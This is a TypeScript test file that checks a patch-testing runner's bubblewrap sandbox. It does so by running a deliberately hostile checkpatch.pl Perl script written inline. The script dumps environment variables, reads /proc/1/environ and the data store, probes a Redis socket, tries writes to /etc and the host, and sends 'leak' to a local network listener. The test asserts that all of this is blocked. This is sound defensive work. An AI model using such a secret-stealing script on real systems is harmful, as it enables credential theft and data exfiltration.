import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadConfig } from "../../src/config/load-config.ts";
import { git } from "../../src/lib/git.ts";
import { silentLogger } from "../../src/lib/logger.ts";
import { resolveSandboxIdentity } from "../../src/lib/sandbox.ts";
import { applySeries } from "../../src/runner/apply/apply-series.ts";
import { openStore } from "../../src/store/open-store.ts";
import { createRunnerSandbox } from "../../src/workers/create-runner-sandbox.ts";
import { startTestRedis } from "../helpers/redis-server.ts";
import type { AttackRow } from "./format-attack-table.ts";
import { probeAttack, skippedAttack } from "./probe-attack.ts";
import { onePatchApplyJob } from "../helpers/one-patch-apply-job.ts";

const ATTACKS: [string, string][] = [
  ["tree checkpatch.pl reads secrets (env, /proc/1/environ)", "no PATCHBENCH_SMTP_PASSWORD / _GITHUB_WEBHOOK_SECRET"],
  ["tree checkpatch.pl writes outside the worktree", "read-only fs; host files untouched"],
  ["tree checkpatch.pl reaches the network", "no connection (own net namespace)"],
  ["tree checkpatch.pl sees data dir / store / Redis socket", "empty tmpfs: nothing to read or connect to"],
  ["tree checkpatch.pl runs as root", "runs as the sandbox user"],
];

/** Why the sandbox rows cannot run here, or null. */
function unavailable(): string | null {
  if (process.geteuid?.() !== 0) return "needs root (the runner drops to the sandbox user)";
  if (!["/usr/bin/bwrap", "/bin/bwrap", "/usr/local/bin/bwrap"].some((p) => existsSync(p))) return "bubblewrap is not installed (scripts/setup-system.sh)";
  return null;
}

/**
 * A tree whose scripts/checkpatch.pl is hostile, run by the apply stage in
 * the runner's real sandbox (createRunnerSandbox from a loaded config: bwrap
 * as patchbench-sandbox). The data dir holds the store and a Redis unix
 * socket (a real redis-server listening on it); the secrets are in the
 * runner's environment. The script reports what it got as checkpatch
 * warnings; the host side (files, the listening port) is checked as well.
 */
export async function runSandboxAttacks(): Promise<AttackRow[]> {
  const why = unavailable();
  if (why) return ATTACKS.map(([a, e]) => skippedAttack(a, e, why));
  const dir = mkdtempSync(join(tmpdir(), "pb-sec-sbx-"));
  chmodSync(dir, 0o711);
  const dataDir = join(dir, "data");
  mkdirSync(dataDir);
  const sock = join(dataDir, "redis.sock");
  const redis = await startTestRedis(["--unixsocket", sock, "--unixsocketperm", "777"]);
  const saved = { ...process.env };
  let connections = 0;
  const server = createServer((s) => {
    connections++;
    s.end();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const port = (server.address() as { port: number }).port;
  const hostFile = join(dir, "host-pwned");
  try {
    const config = loadConfig({ flags: { dataDir, redisUrl: redis.url } });
    const db = await openStore(config.paths.storePath);
    await db.destroy();
    assert.ok(existsSync(config.paths.storePath) && existsSync(sock), "the store and the Redis socket exist on the host");
    Object.assign(process.env, { PATCHBENCH_SMTP_PASSWORD: "smtp-secret-3b1f", PATCHBENCH_GITHUB_WEBHOOK_SECRET: "hook-secret-9c2e" });

    const up = join(dir, "up");
    mkdirSync(join(up, "scripts"), { recursive: true });
    writeFileSync(
      join(up, "scripts", "checkpatch.pl"),
      `use strict; use IO::Socket::INET; use IO::Socket::UNIX;
my @out;
sub report { my ($code, $msg) = @_; $msg = "" unless defined $msg; $msg =~ s/[\\n\\0]/ /g; push @out, "WARNING:$code: $msg"; }
for my $k (sort keys %ENV) { report("ENV", "$k=$ENV{$k}") }
for my $f ("/proc/1/environ", "${config.paths.storePath}") {
  if (open(my $h, "<", $f)) { local $/; my $c = <$h>; report("READ", "$f: " . substr($c, 0, 200)) } else { report("DENIED_READ", "$f: $!") }
}
if (opendir(my $d, "${dataDir}")) { report("LS_DATA", join(",", sort grep { !/^\\.\\.?$/ } readdir($d))) }
my $u = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => "${sock}");
if ($u) { print $u "PING\\r\\n"; my $a = <$u>; report("REDIS", defined $a ? $a : "") } else { report("DENIED_REDIS", "$!") }
for my $f ("${dataDir}/pwned", "${hostFile}", "/etc/pb-sec-pwned", "scripts/pwned") {
  if (open(my $h, ">", $f)) { print $h "x"; close $h; report("WROTE", $f) } else { report("DENIED_WRITE", "$f: $!") }
}
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, Timeout => 3);
if ($s) { print $s "leak\\n"; report("CONNECTED", "") } else { report("DENIED_NET", "$@") }
report("UID", "$< $>");
local $/; my $mail = <STDIN>;
print "$_\\n" for @out;
print "total: 0 errors, " . scalar(@out) . " warnings, 1 lines checked\\n";
`,
    );
    writeFileSync(join(up, "a.c"), "int a;\n");
    await git(["init", "-q", "-b", "master", up]);
    await git(["add", "-A"], { repo: up });
    await git(["commit", "-q", "-m", "base"], { repo: up });
    const work = join(dir, "p");
    const job = await onePatchApplyJob(up, work, "flow-sec-sandbox");
    const sandbox = createRunnerSandbox(config, { log: silentLogger() });
    const r = await applySeries(job, { git, log: silentLogger(), workDir: config.paths.workDir, runner: "security", sandbox, fetchIntervalMs: 0 });
    const check = r.data.checks?.find((c) => c.id === "checkpatch");
    const seen = new Map<string, string[]>();
    for (const f of check?.findings ?? []) seen.set(f.code ?? "", [...(seen.get(f.code ?? "") ?? []), f.message]);
    const all = JSON.stringify(check?.findings ?? []);
    const ran = () => assert.ok(seen.has("UID"), `the script ran in the sandbox: ${r.summary}; ${all.slice(0, 300)}`);
    const id = resolveSandboxIdentity(config.global.runner.sandboxUser);
    const [secrets, writes, net, state, root] = ATTACKS;

    return [
      await probeAttack(secrets![0], secrets![1], () => {
        ran();
        assert.equal(/smtp-secret-3b1f|hook-secret-9c2e/.test(all), false, "a secret value reached the script");
        const keys = (seen.get("ENV") ?? []).map((m) => m.slice(0, m.indexOf("=")));
        assert.deepEqual(keys.filter((k) => k.startsWith("PATCHBENCH") || k === "REDIS_URL"), []);
        const environ = (seen.get("READ") ?? []).find((m) => m.startsWith("/proc/1/environ"));
        assert.match(environ ?? "", /^\/proc\/1\/environ: PATH=[^ ]*\s*$/);
        return `env keys: ${keys.join(" ")}; /proc/1/environ holds PATH only`;
      }),
      await probeAttack(writes![0], writes![1], () => {
        ran();
        // /tmp and the data dir are the sandbox's own empty tmpfs: a write there lands in memory
        // that dies with the sandbox. The host must not change, and / must be read-only.
        for (const p of [join(dataDir, "pwned"), hostFile, "/etc/pb-sec-pwned", join(up, "scripts", "pwned")]) assert.equal(existsSync(p), false, `${p} on the host`);
        const denied = seen.get("DENIED_WRITE") ?? [];
        assert.ok(denied.some((m) => m.startsWith("/etc/pb-sec-pwned: Read-only file system")), "a write to /etc was not refused");
        assert.ok(denied.some((m) => m.startsWith("scripts/pwned: Read-only file system")), "the worktree was writable during the checks");
        const tmpfs = (seen.get("WROTE") ?? []).map((m) => m.replace(dir, "…"));
        return `refused: ${denied.map((m) => m.replace(dir, "…")).join("; ")}; into its own tmpfs only: ${tmpfs.join(", ") || "none"}; host unchanged`;
      }),
      await probeAttack(net![0], net![1], () => {
        ran();
        assert.equal(seen.has("CONNECTED"), false);
        assert.equal(connections, 0, "the host's listener got a connection");
        return `127.0.0.1:${port} listening on the host: ${(seen.get("DENIED_NET") ?? []).join(" ") || "refused"}; 0 connections`;
      }),
      await probeAttack(state![0], state![1], () => {
        ran();
        assert.equal(seen.has("REDIS"), false, `Redis answered: ${seen.get("REDIS")}`);
        assert.ok(seen.has("DENIED_REDIS"), "no attempt on the socket was reported");
        const store = (seen.get("READ") ?? []).find((m) => m.startsWith(config.paths.storePath));
        assert.ok(store !== undefined || (seen.get("DENIED_READ") ?? []).some((m) => m.startsWith(config.paths.storePath)), "the store was not tried");
        assert.equal(/SQLite format/.test(store ?? ""), false, "the store's bytes were readable");
        // What the tmpfs shows are bwrap's mount points for the hidden paths (the store is /dev/null), never the socket.
        const ls = ((seen.get("LS_DATA") ?? [""])[0] ?? "").split(",").filter(Boolean);
        const mountPoints = ["work", "outbox", ...[config.paths.storePath, `${config.paths.storePath}-wal`, `${config.paths.storePath}-shm`].map((p) => p.slice(dataDir.length + 1))];
        assert.deepEqual(ls.filter((e) => !mountPoints.includes(e)), [], `data dir shows ${ls.join(",")}`);
        return `data dir shows only mount points (${ls.join(", ")}); store reads ${store === undefined ? "denied" : "empty (/dev/null)"}; redis.sock: ${seen.get("DENIED_REDIS")}`;
      }),
      await probeAttack(root![0], root![1], () => {
        ran();
        const uid = (seen.get("UID") ?? [""])[0]!;
        assert.notEqual(id.uid, 0);
        assert.equal(uid, `${id.uid} ${id.uid}`, "real and effective uid");
        return `uid ${uid.split(" ")[0]} (${id.name}${id.source === "user" ? "" : ", the dedicated user is missing"})`;
      }),
    ];
  } finally {
    for (const k of Object.keys(process.env)) if (!(k in saved)) delete process.env[k];
    server.close();
    await redis.stop();
    rmSync(dir, { recursive: true, force: true });
  }
}
